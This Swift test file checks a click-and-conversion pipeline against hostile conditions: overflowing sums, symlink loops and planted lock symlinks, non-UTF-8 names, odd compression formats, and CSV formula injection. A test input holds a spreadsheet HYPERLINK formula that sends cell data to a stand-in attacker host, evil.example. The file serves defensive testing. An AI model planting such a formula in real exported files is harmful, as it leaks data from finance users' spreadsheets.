import Foundation
import Testing

@testable import ClickPipeline

#if canImport(Glibc)
  import Glibc
#endif

/// What an adversarial operator found (issue 11), each through the real executables.
@Suite struct HostileConditionsTests {
  static func view(_ id: String, _ day: String = "2026-11-01") -> String {
    #"{"type":"view","event_id":"\#(id)","ts":"\#(day)T10:00:00Z","creator_id":"c1","viewer_id":"u1"}"#
  }

  static func eurOrder(_ id: String, day: String) -> String {
    #"{"type":"conversion","event_id":"\#(id)","ts":"\#(day)T12:00:00Z","product_id":"p1","platform":"amazon","order_id":"O-\#(id)","amount":"999999999999.99","currency":"EUR"}"#
  }

  /// Twelve huge EUR orders on one day and product pass 2^63-1 cents in one row. `aggregate`
  /// does not trap: it leaves the orders that do not fit out, names them, and the next night
  /// with new data works.
  @Test func sumsBeyondInt64LeaveOrdersOutAndLaterNightsWork() throws {
    let dir = try TemporaryDirectory()
    let db = dir.file("db.sqlite")
    let config = try dir.write("cp.toml", "[fx_usd_per_unit]\nEUR = 10000\n")
    let first = try dir.writeGzip("night1.ndjson.gz", lines: (1...12).map { Self.eurOrder("e\($0)", day: "2026-11-01") })
    #expect(try Stage.run("ingest", ["--db", db, "--config", config, first]).exitStatus == 0)
    let aggregate = try Stage.run("aggregate", ["--db", db, "--config", config])
    #expect(aggregate.exitStatus == 0, "\(aggregate.termination) \(aggregate.stderr)")
    #expect(aggregate.stderr.contains("left out of daily_metrics: 2026-11-01 order O-e"), "\(aggregate.stderr)")
    let t = try TestDatabase(db)
    let kept = try t.int("SELECT orders FROM daily_metrics WHERE product_id = 'p1'")
    #expect(kept == 9, "9 orders of 999,999,999,999.99 EUR at 10000 USD each fit in 2^63-1 cents")
    #expect(try t.rows("SELECT message FROM runs WHERE command = 'aggregate'")[0][0].contains("3 conversion(s) left out"))

    let second = try dir.writeGzip("night2.ndjson.gz", lines: [Self.view("v1", "2026-11-02")])
    #expect(try Stage.run("ingest", ["--db", db, "--config", config, second]).exitStatus == 0)
    let next = try Stage.run("aggregate", ["--db", db, "--config", config])
    #expect(next.exitStatus == 0, "\(next.stderr)")
    #expect(try t.int("SELECT views FROM daily_metrics WHERE day = '2026-11-02'") == 1)
  }

  /// The same orders on twelve days fit day by day; the report over all of them would pass
  /// 2^63-1: it refuses with a message saying what to do, and a shorter period works.
  @Test func reportOfAPeriodWhoseSumsOverflowSaysWhatToDo() throws {
    let dir = try TemporaryDirectory()
    let db = dir.file("db.sqlite")
    let config = try dir.write("cp.toml", "[fx_usd_per_unit]\nEUR = 10000\n")
    let lines = (1...12).map { Self.eurOrder("e\($0)", day: String(format: "2026-11-%02d", $0)) }
    _ = try runPipeline(db: db, config: config, inputs: [try dir.writeGzip("a.ndjson.gz", lines: lines)])
    let out = dir.file("out")
    let whole = try Stage.run("report", ["--db", db, "--out", out, "--config", config])
    #expect(whole.exitStatus == 1)
    #expect(
      whole.stderr.contains(
        "2026-11-01 to 2026-11-12: the period's figures add up to more than 9,223,372,036,854,775,807 cents (the largest integer); report shorter periods with --from and --to — nothing was written"
      ),
      "\(whole.stderr)")
    #expect(!FileManager.default.fileExists(atPath: out + "/summary.md"))
    let part = try Stage.run("report", ["--db", db, "--out", out, "--config", config, "--from", "2026-11-01", "--to", "2026-11-05"])
    #expect(part.exitStatus == 0, "\(part.stderr)")
  }

  /// Two symbolic-link loops in an input folder: each real directory is walked once.
  @Test func symlinkLoopsAreWalkedOnce() throws {
    let dir = try TemporaryDirectory()
    _ = try dir.writeGzip("in/a/one.ndjson.gz", lines: [Self.view("v1")])
    #expect(symlink("..", dir.file("in/a/up")) == 0)
    #expect(symlink("../a", dir.file("in/a/self")) == 0)
    let db = dir.file("db.sqlite")
    let r = try Stage.run("ingest", ["--db", db, dir.file("in")])
    #expect(r.exitStatus == 0, "\(r.termination) \(r.stderr)")
    #expect(try TestDatabase(db).rows("SELECT path FROM files").map(\.[0]) == [dir.file("in/a/one.ndjson.gz")])
  }

  /// A name that is not UTF-8 cannot be recorded as text: it is refused by name (exit 2), not
  /// skipped in silence; the other files are ingested.
  @Test func namesThatAreNotUTF8AreRefusedNotSkipped() throws {
    let dir = try TemporaryDirectory()
    _ = try dir.writeGzip("in/ok.ndjson.gz", lines: [Self.view("v1")])
    let gz = try Gzip.compress(Data((Self.view("v2") + "\n").utf8))
    var path = Array(dir.file("in/bad").utf8) + [0xFF] + Array(".ndjson.gz".utf8) + [0]
    let fd = path.withUnsafeMutableBufferPointer { p in
      p.baseAddress!.withMemoryRebound(to: CChar.self, capacity: p.count) { open($0, O_WRONLY | O_CREAT | O_CLOEXEC, 0o644) }
    }
    #expect(fd >= 0)
    _ = gz.withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
    close(fd)
    let db = dir.file("db.sqlite")
    let r = try Stage.run("ingest", ["--db", db, dir.file("in")])
    #expect(r.exitStatus == 2, "\(r.termination) \(r.stderr)")
    #expect(
      r.stderr.contains(
        "\(dir.file("in/bad"))\\xFF.ndjson.gz: the name is not valid UTF-8, so it cannot be recorded; rename it to ingest it"),
      "\(r.stderr)")
    #expect(try stagedTraffic(db, kind: .view).count == 1)
  }

  /// The lock belongs to the database's real file: through a symbolic link to it, a second
  /// run finds the lock held (75) instead of writing beside the first.
  @Test func aliasOfTheDatabaseTakesTheSameLock() throws {
    let dir = try TemporaryDirectory()
    let db = dir.file("db.sqlite")
    let holder = try FaultTests.Lock.Holder(db: db, dir: dir)
    #expect(symlink(db, dir.file("alias.sqlite")) == 0)
    let input = try dir.writeGzip("a.ndjson.gz", lines: [Self.view("v1")])
    let second = try Stage.run("ingest", ["--db", dir.file("alias.sqlite"), input])
    #expect(second.termination == .exited(75), "\(second.termination) \(second.stderr)")
    #expect(second.stderr.contains("pid \(holder.child.pid)"), "\(second.stderr)")
    #expect(holder.finish(with: FaultTests.Lock.holderLines).termination == .exited(0))
  }

  /// A lock file planted as a symbolic link to another file is refused by name; the other
  /// file is not touched.
  @Test func lockFileThatIsASymlinkIsRefusedAndItsTargetKept() throws {
    let dir = try TemporaryDirectory()
    let victim = try dir.write("victim.txt", "precious\n")
    let db = dir.file("db.sqlite")
    #expect(symlink(victim, db + ".lock") == 0)
    let input = try dir.writeGzip("a.ndjson.gz", lines: [Self.view("v1")])
    let r = try Stage.run("ingest", ["--db", db, input])
    #expect(r.termination == .exited(1))
    #expect(
      r.stderr.contains("database \(db) cannot be used: the lock file \(db).lock is a symbolic link; remove it (runs never create one)"),
      "\(r.stderr)")
    #expect(try String(contentsOfFile: victim, encoding: .utf8) == "precious\n")
  }

  /// `aggregate` and `report` on a mistyped --db: exit 1, "no such database", nothing created,
  /// and the report folder untouched.
  @Test(arguments: ["aggregate", "report"])
  func missingDatabaseIsNotCreated(stage: String) throws {
    let dir = try TemporaryDirectory()
    let out = dir.file("out")
    _ = try dir.write("out/summary.md", "the good report\n")
    let db = dir.file("mistyped.sqlite")
    let r = try Stage.run(stage, ["--db", db] + (stage == "report" ? ["--out", out] : []))
    #expect(r.termination == .exited(1))
    #expect(
      r.stderr == "\(stage): error: database \(db) cannot be used: no such database; check the --db path (ingest creates a new database)\n")
    #expect(!FileManager.default.fileExists(atPath: db) && !FileManager.default.fileExists(atPath: db + ".lock"))
    #expect(try String(contentsOfFile: out + "/summary.md", encoding: .utf8) == "the good report\n")
  }

  /// Store rates and catalog categories are matched by bytes: a store id in NFD does not take
  /// the rate of the same-looking NFC id.
  @Test func ratesAreMatchedByBytesNotCanonicalEquivalence() throws {
    let dir = try TemporaryDirectory()
    let config = try dir.write("cp.toml", "[commission.brand_stores]\n\"caf\u{E9}\" = 0.50\n")
    func order(_ id: String, store: String) -> String {
      #"{"type":"conversion","event_id":"\#(id)","ts":"2026-11-01T12:00:00Z","product_id":"p1","platform":"brand_store","store":"\#(store)","order_id":"O-\#(id)","amount":"100.00"}"#
    }
    let db = dir.file("db.sqlite")
    let input = try dir.writeGzip("a.ndjson.gz", lines: [order("nfc", store: "caf\u{E9}"), order("nfd", store: "cafe\u{301}")])
    _ = try runPipeline(db: db, config: config, inputs: [input])
    let rows = try TestDatabase(db).rows("SELECT hex(store), commission_cents FROM daily_metrics ORDER BY store")
    #expect(rows == [["63616665CC81", "1000"], ["636166C3A9", "5000"]])
  }

  /// Other compressed formats are named as unsupported (the file fails, exit 2), not read as
  /// one malformed line.
  @Test(arguments: [
    ("bzip2", [0x42, 0x5A, 0x68, 0x39, 0x31, 0x41, 0x59] as [UInt8]), ("xz", [0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00, 0x00]),
    ("zstd", [0x28, 0xB5, 0x2F, 0xFD, 0x04, 0x00]),
  ])
  func otherCompressionIsNamedUnsupported(name: String, magic: [UInt8]) throws {
    let dir = try TemporaryDirectory()
    let file = try dir.write("log.\(name)", Data(magic + [UInt8](repeating: 7, count: 64)))
    let db = dir.file("db.sqlite")
    let r = try Stage.run("ingest", ["--db", db, file])
    #expect(r.termination == .exited(2))
    #expect(r.stderr.contains("unsupported compression: \(name); decompress it, or recompress it with gzip"), "\(r.stderr)")
    #expect(try TestDatabase(db).int("SELECT count(*) FROM rejects") == 0)
  }

  /// SIGTERM and SIGINT: one line, the shell's status for the signal, nothing kept.
  @Test(arguments: [(SIGTERM, "SIGTERM"), (SIGINT, "SIGINT")])
  func interruptedRunSaysSoAndKeepsNothing(signal: Int32, name: String) throws {
    let dir = try TemporaryDirectory()
    let db = dir.file("db.sqlite")
    _ = try runPipeline(db: db, inputs: [try dir.writeGzip("a.ndjson.gz", lines: [Self.view("v0")])])
    let before = try DatabaseDump(db)
    let holder = try FaultTests.Lock.Holder(db: db, dir: dir)
    holder.child.signal(signal)
    let outcome = holder.child.wait()
    #expect(outcome.termination == .exited(128 + signal), "\(outcome.termination)")
    #expect(outcome.stderr == "interrupted (\(name)); nothing of this run was kept\n")
    #expect(try DatabaseDump(db) == before)
  }

  /// Usage errors exit 1, as the contract says, not swift-argument-parser's 64.
  @Test(arguments: [
    ("ingest", ["--db", "x.sqlite", "--wait", "nan", "logs"]), ("aggregate", ["--bogus"]),
    ("report", ["--db", "x.sqlite", "--out", "o", "--from", "2026-02-01", "--to", "2026-01-01"]),
  ])
  func usageErrorsExit1(stage: String, arguments: [String]) throws {
    let r = try Stage.run(stage, arguments)
    #expect(r.termination == .exited(1), "\(r.termination) \(r.stderr)")
    #expect(r.stderr.hasPrefix("Error: "), "\(r.stderr)")
  }
}

/// `creator_earnings.csv` is opened in Excel by finance: a text cell that would run as a formula
/// is neutralised with a leading `'` (OWASP); money columns stay plain numbers.
@Suite struct SafeCSVTests {
  @Test(arguments: [
    ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""),
    ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("plain", "plain"), ("a,b", "\"a,b\""),
  ])
  func formulaCellsAreNeutralised(cell: String, expected: String) {
    #expect(CSVLine.cell(cell) == expected)
  }

  /// Integer cells are written as `String(_:)` would, and cells are separated by commas.
  @Test(arguments: [Int64(0), 7, -1200, 1_000_000, .max, .min])
  func integerCellsArePlainNumbers(value: Int64) {
    var line = CSVLine()
    line.text("a\r\nb")
    line.int(value)
    line.text("")
    line.finish()
    #expect(String(decoding: line.bytes, as: UTF8.self) == "\"a\r\nb\",\(value),\n")
  }

  @Test func reportNeutralisesAFormulaCreatorID() throws {
    let dir = try TemporaryDirectory()
    let db = dir.file("db.sqlite")
    let click =
      #"{"type":"click","event_id":"k1","ts":"2026-11-01T10:00:00Z","creator_id":"=1+1","viewer_id":"u1","product_id":"p1","platform":"amazon"}"#
    let order =
      #"{"type":"conversion","event_id":"o1","ts":"2026-11-01T11:00:00Z","viewer_id":"u1","product_id":"p1","platform":"amazon","order_id":"O1","amount":"100.00"}"#
    _ = try runPipeline(db: db, inputs: [try dir.writeGzip("a.ndjson.gz", lines: [click, order])])
    let r = try Stage.run("report", ["--db", db, "--out", dir.file("out")])
    #expect(r.exitStatus == 0, "\(r.stderr)")
    let csv = try String(contentsOfFile: dir.file("out/creator_earnings.csv"), encoding: .utf8)
    #expect(csv.split(separator: "\n").dropFirst().first == "'=1+1,1,1,10000,400,0,0,0,400,open (not closed),600")
  }
}

/// Messages for people (issue 14): no Foundation error dumps, no SQL; what is wrong, with the
/// path, and what to do.
@Suite struct MessageTests {
  @Test(arguments: ["ingest", "aggregate", "report"])
  func aDirectoryAsDatabase(stage: String) throws {
    let dir = try TemporaryDirectory()
    let folder = dir.file("folder")
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    let log = try dir.writeGzip("a.ndjson.gz", lines: [HostileConditionsTests.view("v1")])
    let extra = stage == "ingest" ? [log] : stage == "report" ? ["--out", dir.file("out")] : []
    let r = try Stage.run(stage, ["--db", folder] + extra)
    #expect(r.termination == .exited(1))
    #expect(r.stderr == "\(stage): error: database \(folder) cannot be used: it is a directory; --db names the database file\n")
    #expect(!FileManager.default.fileExists(atPath: folder + ".lock"))
  }

  @Test func aFileThatIsNotSQLite() throws {
    let dir = try TemporaryDirectory()
    let db = try dir.write("notes.sqlite", "just some notes\n")
    let r = try Stage.run("aggregate", ["--db", db])
    #expect(r.termination == .exited(1))
    #expect(
      r.stderr
        == "aggregate: error: database \(db) is not a SQLite database (or is encrypted or damaged); check the --db path — nothing was changed\n"
    )
  }

  @Test(.enabled(if: FaultEnvironment.canDropPrivileges, "needs root and setpriv to run report as nobody"))
  func aReportFolderThatCannotBeWritten() throws {
    let dir = try TemporaryDirectory()
    let db = dir.file("db.sqlite")
    _ = try runPipeline(db: db, inputs: [try dir.writeGzip("a.ndjson.gz", lines: [HostileConditionsTests.view("v1")])])
    try dir.openToEveryone()
    #expect(chmod(db, 0o666) == 0)
    let locked = dir.file("locked")
    try FileManager.default.createDirectory(atPath: locked, withIntermediateDirectories: true)
    #expect(chmod(locked, 0o555) == 0)
    let r = try Stage.run("report", ["--db", db, "--out", locked + "/out"], asNobody: true)
    #expect(r.termination == .exited(1))
    #expect(
      r.stderr == "report: error: cannot write \(locked)/out: permission denied; check that the folder is writable and has free space\n")
  }
}
